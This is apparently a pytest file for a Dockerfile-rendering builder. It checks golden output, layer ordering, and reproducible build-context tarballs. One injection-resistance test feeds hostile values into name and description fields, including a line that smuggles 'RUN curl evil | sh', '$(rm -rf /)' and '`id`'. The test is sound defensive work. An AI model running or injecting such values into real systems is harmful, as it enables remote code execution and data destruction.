"""templates/Dockerfile.j2 renders to the golden Dockerfiles; user text cannot inject instructions; contexts are
byte-for-byte reproducible."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import jinja2
import pytest

from builder.images import context as ctx
from builder.images.render import render_dockerfile
from tests.helpers.render_cases import CASES

GOLDEN = Path(__file__).resolve().parents[1] / "golden"


@pytest.mark.parametrize("kind", sorted(CASES))
def test_rendered_dockerfile_matches_golden(kind):
    text = render_dockerfile(kind, **CASES[kind])
    golden = GOLDEN / f"{kind}.Dockerfile"
    if os.environ.get("SWCLI_UPDATE_GOLDEN"):
        golden.write_text(text)
    assert text == golden.read_text()


def test_layers_are_ordered_slowest_first():
    text = render_dockerfile("runtime", **CASES["runtime"])
    assert text.index("layers/00-torch") < text.index("layers/01-rest") < text.index("COPY --chown=0:0 swcli/")
    model = render_dockerfile("model", **CASES["model"])
    assert model.index("COPY --chown=0:0 weights/") < model.index("COPY --chown=0:0 model/ /opt/swcli/model/")
    assert "code/" not in model and "meta/" not in model


@pytest.mark.parametrize("evil", ['x"\nRUN curl evil | sh\nLABEL a="', "$(rm -rf /)", "a\\\nRUN x", "`id`"])
def test_user_text_cannot_add_instructions(evil):
    text = render_dockerfile("dataset", **dict(CASES["dataset"], description=evil, name=evil))
    instructions = [line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert instructions == ["FROM", "COPY", "COPY", "COPY", "VOLUME", "LABEL", "USER", "CMD"]
    assert "\nRUN" not in text


def test_missing_variable_is_an_error_not_an_empty_string():
    with pytest.raises(jinja2.UndefinedError):
        render_dockerfile("runtime", **{k: v for k, v in CASES["runtime"].items() if k != "site_packages"})


def test_context_tar_is_byte_identical_and_normalised(tmp_path):
    from builder.images.layers import write_tar

    (tmp_path / "tree" / "sub").mkdir(parents=True)
    (tmp_path / "tree" / "sub" / "b.txt").write_text("b")
    (tmp_path / "tree" / "a.sh").write_text("#!/bin/sh\n")
    os.chmod(tmp_path / "tree" / "a.sh", 0o775)
    os.symlink("a.sh", tmp_path / "tree" / "link")

    def build():
        entries = ctx.from_tree("ctx", tmp_path / "tree") + [ctx.from_bytes("Dockerfile", b"FROM x\n")]
        buf = io.BytesIO()
        write_tar(list(reversed(entries)), buf)
        return buf.getvalue()

    first = build()
    os.utime(tmp_path / "tree" / "sub" / "b.txt", (1, 1))
    assert build() == first
    with tarfile.open(fileobj=io.BytesIO(first)) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == ["ctx", "ctx/sub", "Dockerfile", "ctx/a.sh", "ctx/link", "ctx/sub/b.txt"]
    assert all(m.mtime == 0 and m.uid == 0 and m.gid == 0 and m.uname == "" for m in members)
    assert {m.name: oct(m.mode) for m in members}["ctx/a.sh"] == "0o755"
    assert {m.name: m.linkname for m in members}["ctx/link"] == "a.sh"
